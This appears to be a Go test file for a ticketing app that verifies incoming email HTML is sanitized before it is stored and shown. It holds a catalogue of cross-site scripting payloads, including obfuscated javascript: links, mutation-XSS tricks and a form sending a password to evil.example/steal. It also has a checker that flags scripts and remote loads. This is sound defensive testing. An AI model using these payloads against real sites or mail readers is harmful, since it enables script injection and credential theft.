package agent_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	nethtml "golang.org/x/net/html"

	"github.com/docket/docket/internal/apptest"
	"github.com/docket/docket/internal/db"
	"github.com/docket/docket/internal/mailbox"
	"github.com/docket/docket/internal/ticket"
	"github.com/docket/docket/internal/user"
)

// hostileHTML tries what email HTML does to get script run, styles
// applied or images loaded in the reader's browser.
const hostileHTML = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style></head>
<body onload="alert('onload')"><p>Visible words</p>
<script>alert('script')</script><script src="https://evil.example/x.js"></script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('js')">js link</a> <a href="JaVaScRiPt&colon;alert('entity')">entity link</a>
<a href="  java&#x09;script:alert('tab')">tab link</a> <a href="data:text/html,<script>alert('data')</script>">data link</a>
<div onclick="alert('onclick')" style="background:url(https://evil.example/bg.png)">styled</div>
<svg><style><img src="x" onerror="alert('svg-style')"></style></svg>
<math><mtext><table><mglyph><style><img src="x" onerror="alert('math-style')"></style></mglyph></table></mtext></math>
<style></style><img src="x" onerror="alert('after-style')">
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example/b">Go</button></form>
<img src="https://tracker.example/photo.png" width="300" alt="team photo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">
</body></html>`

// checkSafe reports everything in page that could run script, apply a
// sender's style, or load something from elsewhere. The layout's own
// /assets/ script and stylesheet and its empty icon are allowed.
func checkSafe(page string) []string {
	doc, err := nethtml.Parse(strings.NewReader(page))
	if err != nil {
		return []string{"unparseable: " + err.Error()}
	}
	var bad []string
	var walk func(n *nethtml.Node)
	walk = func(n *nethtml.Node) {
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
		if n.Type != nethtml.ElementNode || layoutOwn(n) {
			return
		}
		switch n.Data {
		case "script", "link", "style", "base", "iframe", "frame", "object", "embed", "svg", "math":
			bad = append(bad, "a <"+n.Data+"> element")
		case "meta":
			if attr(n, "http-equiv") != "" {
				bad = append(bad, "a <meta http-equiv>")
			}
		}
		for _, a := range n.Attr {
			v := strings.ToLower(strings.Join(strings.FieldsFunc(a.Val, func(r rune) bool { return r <= ' ' }), ""))
			switch {
			case strings.HasPrefix(a.Key, "on") || a.Key == "style",
				strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:"),
				// Loaded or submitted without the reader asking: only
				// Docket's own addresses (a remote image is a link).
				(a.Key == "src" || a.Key == "action" || a.Key == "formaction") && v != "" && !strings.HasPrefix(v, "/"):
				bad = append(bad, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
			}
		}
	}
	walk(doc)
	return bad
}

// layoutOwn reports the layout's script, stylesheet and icon.
func layoutOwn(n *nethtml.Node) bool {
	switch n.Data {
	case "script":
		return strings.HasPrefix(attr(n, "src"), "/assets/") && n.FirstChild == nil
	case "link":
		return attr(n, "rel") == "stylesheet" && strings.HasPrefix(attr(n, "href"), "/assets/") ||
			attr(n, "rel") == "icon" && attr(n, "href") == "data:,"
	}
	return false
}

func attr(n *nethtml.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// Hostile email HTML is made safe before it is stored (body and
// body_html) and where the ticket page shows it; the sender's subject,
// name and file names are escaped; a remote image is a link to click,
// never loaded. A body that reaches the ticket service unsanitized (as
// the importer hands it over) is still made safe for body_html and the page.
func TestHostileMailHTMLIsSanitizedStoredAndShown(t *testing.T) {
	e := apptest.Server(t, apptest.DB(t, db.SQLite))
	ctx := context.Background()
	addr, name := "support@example.test", "Support"
	mb, err := e.Mailboxes.Create(ctx, e.Admin, mailbox.Input{Address: &addr, Name: &name})
	if err != nil {
		t.Fatal(err)
	}
	hostile := `"><img src=x onerror=alert('name')>`
	raw := "From: \"" + strings.ReplaceAll(hostile, `"`, `\"`) + "\" <mallory@example.net>\r\nTo: support@example.test\r\n" +
		"Subject: <script>alert('subject')</script> Invoice\r\nMessage-ID: <hostile-1@example.net>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + hostileHTML + "\r\n" +
		"--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"<img src=x onerror=alert('file')>.txt\"\r\n\r\nnotes\r\n--b--\r\n"
	res, err := e.Importer.Import(ctx, mb, []byte(raw))
	if err != nil || res.Ticket == 0 {
		t.Fatalf("not filed: %+v %v", res, err)
	}
	msgs, err := e.Tickets.Messages(ctx, e.Admin, res.Ticket, 0, 5)
	if err != nil || len(msgs) != 1 {
		t.Fatalf("messages: %d %v", len(msgs), err)
	}
	m := msgs[0]
	if m.Format != ticket.FormatHTML || !strings.Contains(m.BodyHTML, "Visible words") || !strings.Contains(m.BodyHTML, `href="https://tracker.example/photo.png"`) {
		t.Fatalf("the safe part of the mail is gone (format %s): %s", m.Format, m.BodyHTML)
	}
	for field, v := range map[string]string{"body": m.Body, "body_html": m.BodyHTML} {
		if bad := checkSafe(v); len(bad) > 0 {
			t.Errorf("stored %s is not safe:\n\t%s\n%s", field, strings.Join(bad, "\n\t"), v)
		}
	}

	// As the importer hands a body to the ticket service: the service
	// sanitizes body_html itself, whatever the parser let through.
	direct, err := e.Tickets.Create(ctx, user.MailImporter, ticket.NewTicket{Subject: "Unsanitized", Body: hostileHTML,
		Format: ticket.FormatHTML, Channel: ticket.ChannelEmail, Requester: &ticket.Contact{Email: "mallory@example.net"}})
	if err != nil {
		t.Fatal(err)
	}
	dm, err := e.Tickets.Messages(ctx, e.Admin, direct.Number, 0, 1)
	if err != nil || len(dm) != 1 {
		t.Fatalf("messages: %d %v", len(dm), err)
	}
	if bad := checkSafe(dm[0].BodyHTML); len(bad) > 0 || !strings.Contains(dm[0].BodyHTML, "Visible words") {
		t.Errorf("body_html of an unsanitized HTML body:\n\t%s\n%s", strings.Join(bad, "\n\t"), dm[0].BodyHTML)
	}

	b, _ := signIn(t, e, user.RoleAgent)
	for _, n := range []int64{res.Ticket, direct.Number} {
		code, page, _ := b.get(fmt.Sprintf("/tickets/%d", n))
		if code != 200 || !strings.Contains(page, "Visible words") {
			t.Fatalf("ticket page #%d: %d", n, code)
		}
		if bad := checkSafe(page); len(bad) > 0 {
			t.Errorf("ticket page #%d is not safe:\n\t%s", n, strings.Join(bad, "\n\t"))
		}
	}
}
